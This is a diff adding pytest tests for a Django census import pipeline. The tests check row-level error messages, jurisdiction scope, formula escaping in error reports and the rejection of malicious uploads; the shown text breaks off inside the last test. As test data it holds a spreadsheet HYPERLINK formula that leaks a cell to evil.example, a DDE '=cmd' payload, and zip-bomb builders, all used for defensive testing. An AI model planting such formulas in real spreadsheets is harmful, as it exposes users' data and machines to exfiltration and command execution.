@@ -1,0 +1,693 @@
+"""The census import pipeline as a user meets it (upload → preview → commit) and as code calls it.
+
+Every class of bad input gets an exact, readable error (row, column, value, reason in Chinese), files
+that are not spreadsheets are refused as a whole, and the registry is unchanged afterwards."""
+from __future__ import annotations
+
+import datetime as dt
+from pathlib import Path
+
+import pytest
+from django.core.exceptions import PermissionDenied
+from django.core.files import File
+from openpyxl import load_workbook
+
+from census.importing.columns import HeaderError
+from census.importing.pipeline import run_census_import
+from census.importing.reading import FileRejected
+from census.importing.workbooks import census_template_workbook
+from census.models import (
+    Campaign,
+    CensusImport,
+    Headcount,
+    ImportStatus,
+    Person,
+    PersonEvent,
+    PersonEventKind,
+)
+from census.services.imports import census_import_request, census_import_run, census_import_upload
+from census.services.persons import person_create
+from census.signals import census_changed
+from orgs.models import Region, Unit
+
+from . import import_files as files
+from .import_files import SHORT_HEADERS, row
+
+HUANING_MESSAGE = "此人已在云南省玉溪市华宁县登记，请联系该县办理迁移"
+OUTSIDE = "区划不在您的管辖范围内"
+MISSING_REGION = "区划不存在（请填区划代码或全称）"
+TODAY = dt.date(2026, 3, 1)
+
+
+# ---------------------------------------------------------------- fixtures and helpers
+
+
+@pytest.fixture(autouse=True)
+def media_root(settings, tmp_path):
+    """Uploaded files and error reports go to the test's own directory, not var/media."""
+    settings.MEDIA_ROOT = tmp_path / "media"
+    return settings.MEDIA_ROOT
+
+
+@pytest.fixture
+def campaign(db):
+    return Campaign.objects.create(year=2026, name="2026年度玉溪市侨情调查", region=Region.objects.get(code="530400"))
+
+
+@pytest.fixture
+def places(db):
+    codes = {"hexi": "530423101", "nagu": "530423102", "tonghai": "530423", "huaning": "530424"}
+    return {key: Region.objects.get(code=code) for key, code in codes.items()}
+
+
+@pytest.fixture
+def school(places):
+    return Unit.objects.create(name="通海县第一中学", kind="school", region=places["hexi"])
+
+
+@pytest.fixture
+def huaning_id(huaning_official, places):
+    """The ID of a person already registered in 华宁县 (by its own official)."""
+    number = files.ids("530424", 1, seed=99)[0]
+    person_create(editor=huaning_official, name="华宁某人", id_number=number, category="relative", region=places["huaning"])
+    return number
+
+
+@pytest.fixture
+def registered(tonghai_official, places, school):
+    """A person already registered in 通海县 河西镇 (so the registry is not empty)."""
+    number = files.ids("530423", 1, seed=77)[0]
+    person = person_create(
+        editor=tonghai_official, name="李四", id_number=number, category="returned", region=places["hexi"],
+        unit=school, phone="13900000000",
+    )
+    return person, number
+
+
+def snapshot() -> dict:
+    """Every row of the registry tables, all columns: equal snapshots mean nothing was written."""
+    return {
+        model.__name__: list(model.objects.order_by("pk").values_list())
+        for model in (Person, PersonEvent, Headcount, Unit)
+    }
+
+
+def upload(user, path: Path, campaign: Campaign) -> CensusImport:
+    with open(path, "rb") as handle:
+        return census_import_upload(user=user, uploaded_file=File(handle, name=path.name), campaign=campaign)
+
+
+def import_file(user, path: Path, campaign: Campaign, *, commit: bool, valid_only: bool = False) -> CensusImport:
+    return census_import_run(record=upload(user, path, campaign), commit=commit, valid_only=valid_only)
+
+
+NUMBER_CELL = "<an 18-digit number>"
+
+
+def errors_of(record_or_outcome) -> set[tuple]:
+    """The errors as (row, column, value, reason); an ID that Excel turned into a number shows as
+    whatever digits the float kept, so it is compared by shape."""
+    found = set()
+    for e in record_or_outcome.errors:
+        error = (e["row"], e["column"], e["value"], e["reason"]) if isinstance(e, dict) else (e.row, e.column, e.value, e.reason)
+        if error[1] == "身份证号码" and "数字格式" in error[3]:
+            assert error[2].isdigit() and len(error[2]) == 18, error
+            error = (*error[:2], NUMBER_CELL, error[3])
+        found.add(error)
+    return found
+
+
+# ---------------------------------------------------------------- the file with every class of bad input
+
+FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
+FORMULA_NAME = "=cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def bad_file(tmp_path, huaning_id):
+    """An .xlsx with one row per class of bad input, two good rows and empty rows, and the expected errors."""
+    good = files.ids("530423", 12, seed=5)
+    header = [*SHORT_HEADERS, "籍贯"]  # an unknown column: ignored and reported
+    r = lambda **values: row(header, **values)  # noqa: E731
+    base = {"类别": "侨眷", "居住地区划代码": "530423101"}
+    wrong_check = good[2][:17] + ("0" if good[2][17] != "0" else "1")
+    born_1980 = files.id_born("530423", dt.date(1980, 5, 6), sequence=123)  # odd: male
+    rows = [
+        # 2: valid, with a formula-like note and a unit
+        r(姓名="张三", 身份证号码=good[0], 工作单位="通海县第一中学", 联系电话="13912345678", 备注=FORMULA_NOTE, **base),
+        # 3: valid, formula-like name, region by full name, full-width digits and spaces in the phone
+        r(姓名=FORMULA_NAME, 身份证号码=good[1], 类别="归侨", 居住地区划代码="云南省玉溪市通海县纳古镇", 联系电话="１３９ １２３４ ５６７８"),
+        # 4: wrong check character
+        r(姓名="王五", 身份证号码=wrong_check, **base),
+        # 5: region that does not exist
+        r(姓名="赵六", 身份证号码=good[3], **{**base, "居住地区划代码": "530423999"}),
+        # 6: region of 华宁县: outside a 通海 official's scope (formula in an invalid row's note)
+        r(姓名="@SUM(1+1)", 身份证号码=good[4], 备注=FORMULA_NOTE, **{**base, "居住地区划代码": "530424"}),
+        # 7: the same ID as row 2
+        r(姓名="张三重", 身份证号码=good[0], **base),
+        # 8: empty
+        [],
+        # 9: already registered in 华宁县
+        r(姓名="华宁某人", 身份证号码=huaning_id, **base),
+        # 10: a date that does not exist
+        r(姓名="孙七", 身份证号码=good[5], 出生日期="2001/2/30", **base),
+        # 11: a date nobody can read
+        r(姓名="周八", 身份证号码=good[6], 出生日期="去年", **base),
+        # 12: ID typed as a number: Excel rounded it
+        r(姓名="吴九", 身份证号码=float(good[7]), **base),
+        # 13: unknown category
+        r(姓名="郑十", 身份证号码=good[8], **{**base, "类别": "侨胞家属"}),
+        # 14: unknown unit
+        r(姓名="钱一", 身份证号码=good[9], 工作单位="不存在的单位", **base),
+        # 15: no name
+        r(身份证号码=good[10], **base),
+        # 16: birth date and gender contradict the ID
+        r(姓名="陈二", 身份证号码=born_1980, 出生日期="1990-01-01", 性别="女", **base),
+        # 17: impossible birth date inside the ID, unreadable phone
+        r(姓名="林三", 身份证号码="11010519990230002X", 联系电话="打电话", **base),
+        # 18, 19: empty (whitespace only), then one more bad row (20) so they are not trailing
+        [" ", "\u3000"],
+        [],
+        r(姓名="何四", 身份证号码=good[11], **{**base, "类别": ""}),
+    ]
+    path = files.write_xlsx(tmp_path / "侨情登记-错误.xlsx", header, rows)
+    expected = {
+        (4, "身份证号码", wrong_check, f"身份证号码校验位应为 {good[2][17]}，实为 {wrong_check[17]}"),
+        (5, "居住地区划代码", "530423999", MISSING_REGION),
+        (6, "居住地区划代码", "530424", OUTSIDE),
+        (7, "身份证号码", good[0][:6] + "********" + good[0][-4:], "与第 2 行身份证号码重复"),
+        (9, "身份证号码", huaning_id[:6] + "********" + huaning_id[-4:], HUANING_MESSAGE),
+        (10, "出生日期", "2001/2/30", "日期不存在"),
+        (11, "出生日期", "去年", "无法识别的日期格式（可用 2001-01-05、2001/1/5 或 2001年1月5日）"),
+        (12, "身份证号码", NUMBER_CELL, "该单元格是数字格式，Excel 已将 18 位号码的末几位变为 0：请将此列设为文本后重新填写"),
+        (13, "类别", "侨胞家属", "未知类别（可填：归侨、侨眷、华侨、外籍华人、留学人员、留学人员眷属）"),
+        (14, "工作单位", "不存在的单位", "单位不存在或不在您的管辖范围内，请先在单位名录中登记"),
+        (15, "姓名", "", "必填项为空"),
+        (16, "性别", "女", "与身份证号码中的性别不一致"),
+        (16, "出生日期", "1990-01-01", "与身份证号码中的出生日期 1980-05-06 不一致"),
+        (17, "身份证号码", "11010519990230002X", "身份证号码中的出生日期 19990230 不是有效日期"),
+        (17, "联系电话", "打电话", "联系电话“打电话”格式不正确"),
+        (20, "类别", "", "必填项为空"),
+    }
+    return path, expected, good
+
+
+@pytest.mark.django_db
+def test_every_class_of_bad_input_gets_an_exact_error(tonghai_official, campaign, school, registered, bad_file):
+    path, expected, _good = bad_file
+    before = snapshot()
+
+    record = import_file(tonghai_official, path, campaign, commit=False)
+
+    assert record.status == ImportStatus.PREVIEWED
+    assert errors_of(record) == expected
+    assert (record.rows, record.new, record.updated, record.unchanged, record.invalid) == (16, 2, 0, 0, 14)
+    assert record.message == "已忽略无法识别的列：籍贯"
+    assert snapshot() == before  # a preview writes nothing
+
+    # the import record keeps the file, the user, the time and the counts
+    assert record.user == tonghai_official and record.original_name == "侨情登记-错误.xlsx"
+    assert Path(record.file.path).read_bytes() == path.read_bytes()
+    assert record.created_at is not None and record.region.code == "530423"
+
+
+@pytest.mark.django_db
+def test_all_or_nothing_commit_refuses_a_file_with_invalid_rows(tonghai_official, campaign, school, registered, bad_file):
+    path, expected, _good = bad_file
+    before = snapshot()
+
+    record = import_file(tonghai_official, path, campaign, commit=True)
+
+    assert record.status == ImportStatus.REJECTED
+    assert record.message == "文件有 14 行无效，未写入任何数据"
+    assert errors_of(record) == expected
+    assert snapshot() == before
+
+
+@pytest.mark.django_db
+def test_error_report_has_the_original_rows_an_error_column_and_no_formulas(tonghai_official, campaign, school, bad_file):
+    path, _expected, good = bad_file
+    record = import_file(tonghai_official, path, campaign, commit=False)
+
+    book = load_workbook(record.error_report.path)
+    sheet = book.active
+    values = [[c.value for c in r] for r in sheet.iter_rows()]
+    assert values[0] == ["原行号", *SHORT_HEADERS, "籍贯", "错误原因"]
+    assert [r[0] for r in values[1:]] == [4, 5, 6, 7, 9, 10, 11, 12, 13, 14, 15, 16, 17, 20]
+    by_row = {r[0]: r for r in values[1:]}
+    # original cells as uploaded, including the row refused only after matching (registered in 华宁县)
+    assert by_row[9][1] == "华宁某人" and by_row[9][4] not in (None, "")
+    assert by_row[5][6] == "530423999"
+    assert by_row[16][-1] == "【性别】与身份证号码中的性别不一致；【出生日期】与身份证号码中的出生日期 1980-05-06 不一致"
+    assert by_row[9][-1] == f"【身份证号码】{HUANING_MESSAGE}"
+    # formula injection: text that starts like a formula is escaped, and no cell is a formula
+    assert by_row[6][1] == "'@SUM(1+1)"
+    assert by_row[6][9] == "'" + FORMULA_NOTE
+    for sheet_row in sheet.iter_rows():
+        for cell in sheet_row:
+            assert cell.data_type != "f"
+            if isinstance(cell.value, str):
+                assert not cell.value.startswith(("=", "+", "-", "@", "\t")), cell.coordinate
+
+
+@pytest.mark.django_db
+def test_valid_only_imports_just_the_valid_rows(
+    tonghai_official, campaign, school, places, registered, bad_file, django_capture_on_commit_callbacks
+):
+    path, _expected, good = bad_file
+    received = []
+
+    def receiver(sender, **kwargs):
+        received.append(kwargs)
+
+    census_changed.connect(receiver)
+    try:
+        with django_capture_on_commit_callbacks(execute=True):
+            record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)
+    finally:
+        census_changed.disconnect(receiver)
+
+    assert record.status == ImportStatus.COMMITTED and record.valid_only
+    assert (record.new, record.invalid) == (2, 14)
+    zhang = Person.objects.get(id_number_masked=good[0][:6] + "********" + good[0][-4:])
+    assert (zhang.name, zhang.region, zhang.unit, zhang.category, zhang.phone) == ("张三", places["hexi"], school, "relative", "13912345678")
+    assert zhang.notes == FORMULA_NOTE  # stored as the text it is; escaping is the exports' job
+    assert zhang.verified_campaign == campaign
+    assert zhang.birth_date == dt.date(int(good[0][6:10]), int(good[0][10:12]), int(good[0][12:14]))
+    formula = Person.objects.get(name=FORMULA_NAME)
+    assert (formula.region, formula.category, formula.phone) == (places["nagu"], "returned", "13912345678")
+    assert PersonEvent.objects.filter(person__in=[zhang, formula], kind=PersonEventKind.IMPORTED).count() == 2
+    # nothing of the invalid rows, nothing in 华宁县 beyond its own person
+    assert Person.objects.filter(region=places["huaning"]).count() == 1
+    assert Person.objects.count() == 4
+
+    # headcounts of the touched regions and unit, for this campaign
+    own = {(h.region.code, h.unit_id, h.category): h.count for h in Headcount.objects.filter(campaign=campaign)}
+    assert own[("530423101", None, "relative")] == 1
+    assert own[("530423102", None, "returned")] == 1
+    assert own[("530423101", school.pk, "relative")] == 1
+    # the census_changed signal names the touched places
+    assert len(received) == 1
+    assert received[0]["region_ids"] == {places["hexi"].pk, places["nagu"].pk}
+    assert received[0]["unit_ids"] == {school.pk}
+    assert received[0]["campaign"] == campaign
+
+
+@pytest.mark.django_db
+def test_a_commit_is_one_transaction(tonghai_official, campaign, registered, tmp_path, monkeypatch):
+    """A failure late in the write (here: the headcount refresh) leaves no person, event or count behind."""
+    numbers = files.ids("530423", 5, seed=6)
+    rows = [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101") for i, n in enumerate(numbers)]
+    rows.append(row(姓名="李四改", 身份证号码=registered[1], 类别="归侨", 居住地区划代码="530423102"))
+    path = files.write_xlsx(tmp_path / "ok.xlsx", SHORT_HEADERS, rows)
+    before = snapshot()
+
+    def broken(**kwargs):
+        raise RuntimeError("disk full")
+
+    monkeypatch.setattr("census.headcounts.headcounts_refresh", broken)
+    with pytest.raises(RuntimeError, match="disk full"):
+        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert snapshot() == before
+
+
+# ---------------------------------------------------------------- headers
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    "header, message",
+    [
+        (["姓名", "类别", "居住地区划代码", "手机"], "缺少必需的列：身份证号码"),
+        (["名字", "证件号", "类别", "区划代码"], "缺少必需的列：身份证号码；无法识别的列：证件号"),
+        # the schema's own keys are accepted as headers (name, category, region); "ID" is not one
+        (["Name", "ID", "Category", "Region"], "缺少必需的列：身份证号码；无法识别的列：ID"),
+        (["Nom", "Numéro", "Catégorie"], "缺少必需的列：姓名、身份证号码、类别、居住地区划代码；无法识别的列：Nom、Numéro、Catégorie"),
+        (["姓名", "名字", "身份证号码", "类别", "居住地"], "列重复：名字"),
+        ([], "缺少必需的列：姓名、身份证号码、类别、居住地区划代码"),
+    ],
+)
+def test_wrong_headers_are_named(tonghai_official, campaign, tmp_path, header, message):
+    path = files.write_xlsx(tmp_path / "表头.xlsx", header or ["", ""], [["张三", "x", "y", "z"]])
+    before = snapshot()
+
+    record = import_file(tonghai_official, path, campaign, commit=True)
+
+    assert record.status == ImportStatus.FAILED
+    assert record.message == message
+    with pytest.raises(HeaderError, match="缺少必需的列|列重复"):
+        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+    assert snapshot() == before
+
+
+@pytest.mark.django_db
+def test_header_synonyms_spacing_and_full_width_parentheses(tonghai_official, campaign, tmp_path):
+    number = files.ids("530423", 1, seed=8)[0]
+    header = ["姓 名", "公民身份号码", "人员类别", "居住地", "侨居国（地区）", "手机号码", " 备注 "]
+    path = files.write_csv(tmp_path / "synonyms.csv", header, [["张三", number, "华侨", "530423102", "缅甸", "13912345678", "x"]])
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert (outcome.new, outcome.invalid, outcome.ignored_headers) == (1, 0, [])
+    person = Person.objects.get(name="张三")
+    assert (person.category, person.country, person.phone, person.notes) == ("overseas", "缅甸", "13912345678", "x")
+
+
+# ---------------------------------------------------------------- encodings and values
+
+
+def _csv_rows(numbers):
+    return [
+        ["张三丰", "", "", numbers[0], "归侨", "云南省玉溪市通海县河西镇", "", "", "备注：侨眷联谊"],
+        ["欧阳娜娜", "", "", numbers[1], "留学人员眷属", "530423102", "", "", ""],
+    ]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig", "utf-8"])
+def test_csv_encodings_keep_chinese_intact(tonghai_official, campaign, tmp_path, encoding):
+    numbers = files.ids("530423", 2, seed=11)
+    path = files.write_csv(tmp_path / f"侨情-{encoding}.csv", SHORT_HEADERS, _csv_rows(numbers), encoding=encoding)
+    if encoding == "gbk":
+        with pytest.raises(UnicodeDecodeError):
+            path.read_bytes().decode("utf-8")  # really not UTF-8
+
+    record = import_file(tonghai_official, path, campaign, commit=True)
+
+    assert record.status == ImportStatus.COMMITTED, record.message
+    assert (record.rows, record.new, record.invalid) == (2, 2, 0)
+    people = {p.name: p for p in Person.objects.filter(name__in=["张三丰", "欧阳娜娜"])}
+    assert set(people) == {"张三丰", "欧阳娜娜"}
+    assert people["张三丰"].region.full_name == "云南省玉溪市通海县河西镇"
+    assert people["张三丰"].notes == "备注:侨眷联谊"  # full-width punctuation becomes half-width
+    assert people["欧阳娜娜"].category == "student_relative"
+
+
+@pytest.mark.django_db
+def test_tab_separated_text_is_read(tonghai_official, campaign, tmp_path):
+    number = files.ids("530423", 1, seed=12)[0]
+    text = "\t".join(["姓名", "身份证号码", "类别", "居住地区划代码"]) + "\n" + "\t".join(["张三", number, "侨眷", "530423101"]) + "\n"
+    path = files.write_bytes(tmp_path / "侨情.txt", text.encode("gbk"))
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=False)
+    assert (outcome.rows, outcome.new, outcome.invalid) == (1, 1, 0)
+
+
+BIRTH_CELLS = [
+    36896,  # an Excel date serial as a number cell
+    "36896",  # the same as text
+    "2001/1/5",
+    "2001-01-05",
+    "2001年1月5日",
+    "２００１年１月５日",  # full-width digits
+    " 2001.01.05 ",
+    "20010105",
+    dt.date(2001, 1, 5),  # a real date cell
+    "2001-01-05 00:00:00",  # str() of a datetime
+    "2001/1/5 0:00",  # how Chinese Excel saves a date cell to CSV
+    "2001-01-05T00:00:00",
+]
+
+
+@pytest.mark.django_db
+def test_date_formats(tonghai_official, campaign, tmp_path):
+    birth = dt.date(2001, 1, 5)
+    rows = [
+        row(姓名=f"测试{i}", 出生日期=cell, 身份证号码=files.id_born("530423", birth, sequence=100 + i), 类别="侨眷", 居住地区划代码="530423101")
+        for i, cell in enumerate(BIRTH_CELLS)
+    ]
+    path = files.write_xlsx(tmp_path / "dates.xlsx", SHORT_HEADERS, rows)
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True, today=TODAY)
+
+    assert outcome.errors == []
+    assert outcome.new == len(BIRTH_CELLS)
+    assert set(Person.objects.filter(name__startswith="测试").values_list("birth_date", flat=True)) == {birth}
+
+
+@pytest.mark.django_db
+def test_values_are_trimmed_and_half_width(tonghai_official, campaign, tmp_path):
+    number = files.ids("530423", 1, seed=13)[0]
+    full_width_id = number.translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789X"})
+    rows = [row(姓名="  张 三  ", 身份证号码=f" {full_width_id[:6]} {full_width_id[6:]} ", 类别=" 侨眷 ", 居住地区划代码="５３０４２３１０１", 联系电话=" 139-1234-5678 ")]
+    path = files.write_xlsx(tmp_path / "trim.xlsx", SHORT_HEADERS, rows)
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert outcome.errors == [] and outcome.new == 1
+    person = Person.objects.get(name="张 三")
+    assert (person.region.code, person.category, person.phone) == ("530423101", "relative", "13912345678")
+    assert person.id_number_masked == number[:6] + "********" + number[-4:]
+
+
+# ---------------------------------------------------------------- re-import, changes, transfers
+
+
+@pytest.mark.django_db
+def test_reimport_is_unchanged_then_a_changed_phone_is_an_update(tonghai_official, campaign, tmp_path, places):
+    numbers = files.ids("530423", 3, seed=21)
+    rows = [row(姓名=f"人{i}", 身份证号码=n, 类别="侨眷", 居住地区划代码="530423101", 联系电话=f"1390000000{i}") for i, n in enumerate(numbers)]
+    path = files.write_xlsx(tmp_path / "first.xlsx", SHORT_HEADERS, rows)
+    first = import_file(tonghai_official, path, campaign, commit=True)
+    assert (first.status, first.new) == (ImportStatus.COMMITTED, 3)
+
+    again = import_file(tonghai_official, path, campaign, commit=True)
+    assert (again.rows, again.new, again.updated, again.unchanged, again.invalid) == (3, 0, 0, 3, 0)
+    events_before = PersonEvent.objects.count()
+
+    rows[1] = row(姓名="人1", 身份证号码=numbers[1], 类别="侨眷", 居住地区划代码="530423101", 联系电话="13811112222")
+    changed_path = files.write_xlsx(tmp_path / "second.xlsx", SHORT_HEADERS, rows)
+    preview = import_file(tonghai_official, changed_path, campaign, commit=False)
+    assert (preview.new, preview.updated, preview.unchanged) == (0, 1, 2)
+    assert Person.objects.get(name="人1").phone == "13900000001"  # preview wrote nothing
+
+    changed = import_file(tonghai_official, changed_path, campaign, commit=True)
+    assert (changed.status, changed.updated, changed.unchanged) == (ImportStatus.COMMITTED, 1, 2)
+    person = Person.objects.get(name="人1")
+    assert person.phone == "13811112222"
+    assert PersonEvent.objects.count() == events_before + 1
+    event = person.events.first()
+    assert event.kind == PersonEventKind.IMPORTED and event.actor == tonghai_official
+    assert event.changes == {"phone": ["139****0001", "138****2222"]}  # phones masked in history
+
+
+@pytest.mark.django_db
+def test_a_new_region_in_the_file_is_a_transfer_and_updates_both_headcounts(tonghai_official, campaign, tmp_path, places):
+    number = files.ids("530423", 1, seed=22)[0]
+    first = files.write_xlsx(tmp_path / "a.xlsx", SHORT_HEADERS, [row(姓名="迁移人", 身份证号码=number, 类别="归侨", 居住地区划代码="530423101")])
+    run_census_import(first, first.name, user=tonghai_official, campaign=campaign, commit=True)
+    assert Headcount.objects.get(campaign=campaign, region=places["hexi"], unit=None, category="returned").count == 1
+
+    moved = files.write_xlsx(tmp_path / "b.xlsx", SHORT_HEADERS, [row(姓名="迁移人", 身份证号码=number, 类别="归侨", 居住地区划代码="530423102")])
+    outcome = run_census_import(moved, moved.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert outcome.updated == 1
+    person = Person.objects.get(name="迁移人")
+    event = person.events.first()
+    assert (event.kind, event.from_region, event.to_region) == (PersonEventKind.TRANSFERRED, places["hexi"], places["nagu"])
+    assert not Headcount.objects.filter(campaign=campaign, region=places["hexi"], unit=None).exists()
+    assert Headcount.objects.get(campaign=campaign, region=places["nagu"], unit=None, category="returned").count == 1
+
+
+# ---------------------------------------------------------------- scope
+
+
+@pytest.mark.django_db
+def test_tonghai_cannot_import_into_huaning(tonghai_official, huaning_official, campaign, tmp_path, places):
+    numbers = files.ids("530424", 2, seed=31)
+    rows = [
+        row(姓名="甲", 身份证号码=numbers[0], 类别="侨眷", 居住地区划代码="530424"),
+        row(姓名="乙", 身份证号码=numbers[1], 类别="侨眷", 居住地区划代码="云南省玉溪市华宁县"),
+    ]
+    path = files.write_xlsx(tmp_path / "huaning.xlsx", SHORT_HEADERS, rows)
+    before = snapshot()
+
+    record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)
+
+    assert errors_of(record) == {
+        (2, "居住地区划代码", "530424", OUTSIDE),
+        (3, "居住地区划代码", "云南省玉溪市华宁县", OUTSIDE),
+    }
+    assert snapshot() == before
+
+    # a campaign of 华宁县 alone is not even visible to 通海县
+    huaning_round = Campaign.objects.create(year=2026, name="2026年度华宁县侨情调查", region=places["huaning"])
+    with pytest.raises(PermissionDenied):
+        upload(tonghai_official, path, huaning_round)
+    # nor is an import record of 华宁县's official
+    theirs = upload(huaning_official, path, campaign)
+    with pytest.raises(PermissionDenied):
+        census_import_request(record=theirs, user=tonghai_official, commit=False)
+    assert not CensusImport.objects.visible_to(tonghai_official).filter(pk=theirs.pk).exists()
+    assert snapshot() == before
+
+
+@pytest.mark.django_db
+def test_leadership_cannot_import(yuxi_leader, campaign, tmp_path):
+    path = files.write_xlsx(tmp_path / "x.xlsx", SHORT_HEADERS, [])
+    with pytest.raises(PermissionDenied):
+        upload(yuxi_leader, path, campaign)
+
+
+@pytest.mark.django_db
+def test_a_person_registered_elsewhere_is_named_by_county_only(tonghai_official, huaning_official, campaign, tmp_path, places):
+    number = files.ids("530424", 1, seed=41)[0]
+    person_create(
+        editor=huaning_official, name="华宁秘密姓名", id_number=number, category="relative", region=places["huaning"],
+        phone="13711112222", notes="秘密备注",
+    )
+    path = files.write_csv(tmp_path / "x.csv", SHORT_HEADERS, [row(姓名="别名", 身份证号码=number, 类别="归侨", 居住地区划代码="530423101")])
+
+    outcome = run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=False)
+
+    [error] = outcome.errors
+    assert error.reason == HUANING_MESSAGE
+    for secret in ("华宁秘密姓名", "13711112222", "秘密备注", "relative", "侨眷", number):
+        assert secret not in str(error)
+
+
+# ---------------------------------------------------------------- hostile and wrong files
+
+MIB = 1 << 20
+
+
+def _hostile(tmp_path: Path, kind: str) -> tuple[Path, str]:
+    """(file, the start of the message that refuses it)."""
+    good_xlsx = files.write_xlsx(tmp_path / "good.xlsx", SHORT_HEADERS, [row(姓名="张三", 身份证号码="11010519491231002X", 类别="侨眷", 居住地区划代码="530423101")])
+    builders = {
+        "junk_20mb_xlsx": lambda: (files.write_junk(tmp_path / "junk.xlsx", 20 * MIB), "“junk.xlsx”不是有效的 Excel 文件（内容不是 xlsx 格式）"),
+        "junk_20mb_csv": lambda: (files.write_junk(tmp_path / "junk.csv", 20 * MIB), "“junk.csv”不是文本文件（含二进制内容），不能作为 CSV 读取"),
+        "png_as_xlsx": lambda: (files.write_bytes(tmp_path / "photo.xlsx", files.PNG_BYTES), "“photo.xlsx”不是有效的 Excel 文件（内容不是 xlsx 格式）"),
+        "png_as_csv": lambda: (files.write_bytes(tmp_path / "photo.csv", files.PNG_BYTES), "“photo.csv”不是文本文件（含二进制内容），不能作为 CSV 读取"),
+        "pdf_as_xlsx": lambda: (files.write_bytes(tmp_path / "doc.xlsx", files.PDF_BYTES), "“doc.xlsx”不是有效的 Excel 文件（内容不是 xlsx 格式）"),
+        "legacy_xls": lambda: (files.write_bytes(tmp_path / "old.xls", files.OLE_HEADER), "“old.xls”是旧版 Excel（.xls）或其他 Office 文件：请在 Excel 中另存为 .xlsx 后上传"),
+        "legacy_xls_as_xlsx": lambda: (files.write_bytes(tmp_path / "old.xlsx", files.OLE_HEADER), "“old.xlsx”是旧版 Excel（.xls）"),
+        "xlsx_as_csv": lambda: (files.write_bytes(tmp_path / "sheet.csv", good_xlsx.read_bytes()), "“sheet.csv”的内容是压缩包（xlsx），与扩展名 .csv 不符"),
+        "unsupported_suffix": lambda: (files.write_bytes(tmp_path / "data.json", b'{"a": 1}'), "不支持的文件类型 .json：请上传 .xlsx 或 .csv"),
+        "zip_bomb": lambda: (files.write_zip_bomb(tmp_path / "bomb.xlsx", 420), "Excel 文件解压后达"),
+        "many_entries": lambda: (files.write_many_entries_zip(tmp_path / "many.xlsx", 2001), "Excel 文件包含 2001 个内部文件，超过上限，疑似恶意文件"),
+        "lying_zip": lambda: (files.write_lying_zip(tmp_path / "liar.xlsx", good_xlsx), "无法读取 Excel 文件"),
+        "docx_as_xlsx": lambda: (files.write_docx_like(tmp_path / "letter.xlsx"), "压缩包不是 Excel 工作簿（缺少工作表）"),
+        "corrupt_xlsx": lambda: (files.write_corrupt_sheet_xlsx(tmp_path / "broken.xlsx"), "无法读取 Excel 文件"),
+        "truncated_xlsx": lambda: (files.write_bytes(tmp_path / "cut.xlsx", good_xlsx.read_bytes()[:300]), "Excel 文件已损坏，无法打开"),
+        "text_junk_csv": lambda: (files.write_bytes(tmp_path / "dump.csv", b'"' + b"A" * (2 * MIB)), "CSV 文件格式错误"),
+        "undecodable_csv": lambda: (files.write_bytes(tmp_path / "bytes.csv", b"\xff\xfe\xfa\xfb" * 100), "无法识别 CSV 文件的编码：请使用 UTF-8 或 GBK"),
+    }
+    return builders[kind]()
+
+
+HOSTILE = [
+    "junk_20mb_xlsx", "junk_20mb_csv", "png_as_xlsx", "png_as_csv", "pdf_as_xlsx", "legacy_xls", "legacy_xls_as_xlsx",
+    "xlsx_as_csv", "unsupported_suffix", "zip_bomb", "many_entries", "lying_zip", "docx_as_xlsx", "corrupt_xlsx",
+    "truncated_xlsx", "text_junk_csv", "undecodable_csv",
+]
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_hostile_files_are_refused_with_a_clear_error(tonghai_official, campaign, registered, tmp_path, kind):
+    path, message = _hostile(tmp_path, kind)
+    before = snapshot()
+
+    record = import_file(tonghai_official, path, campaign, commit=True, valid_only=True)
+
+    assert record.status == ImportStatus.FAILED
+    assert record.message.startswith(message), record.message
+    assert record.file.name  # the upload is kept with its record
+    with pytest.raises(FileRejected):
+        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+    assert snapshot() == before
+
+
+@pytest.mark.django_db
+def test_a_file_over_the_size_limit_is_refused_before_it_is_stored(tonghai_official, campaign, tmp_path, settings):
+    limit = settings.CENSUS_UPLOAD_MAX_BYTES
+    path = files.write_sparse(tmp_path / "huge.xlsx", limit + 1)
+    before, records = snapshot(), CensusImport.objects.count()
+
+    with pytest.raises(FileRejected, match=r"^文件大小 .+ 超过上限 "):
+        upload(tonghai_official, path, campaign)
+    with pytest.raises(FileRejected, match="超过上限"):
+        run_census_import(path, path.name, user=tonghai_official, campaign=campaign, commit=True)
+
+    assert CensusImport.objects.count() == records
+    assert snapshot() == before
+    assert not (Path(settings.MEDIA_ROOT) / "census").exists()
+
+
+@pytest.mark.django_db
+def test_an_empty_file_is_refused(tonghai_official, campaign, tmp_path):
+    path = files.write_bytes(tmp_path / "empty.csv", b"")
+    with pytest.raises(FileRejected, match="文件是空的"):
+        upload(tonghai_official, path, campaign)
+
+
+@pytest.mark.django_db
+def test_control_characters_do_not_break_the_error_report(tonghai_official, campaign, tmp_path):
+    """NUL and other control characters cannot be written to an .xlsx: the report must still be made."""
+    number = files.ids("530423", 1, seed=51)[0]
+    rows = [
+        ["张三", "", "", number, "侨眷", "530423101", "", "", "x" * 5000],  # pushes the NUL past the sniffed head
+        ["=\x00李\x01四\x1f", "", "", "123", "侨眷", "530423101", "", "", "\x07bell"],
+    ]
+    path = files.write_csv(tmp_path / "ctrl.csv", SHORT_HEADERS, rows)
+
+    record = import_file(tonghai_official, path, campaign, commit=False)
+
+    assert record.status == ImportStatus.PREVIEWED, record.message
+    assert record.invalid == 1
+    [error] = record.errors
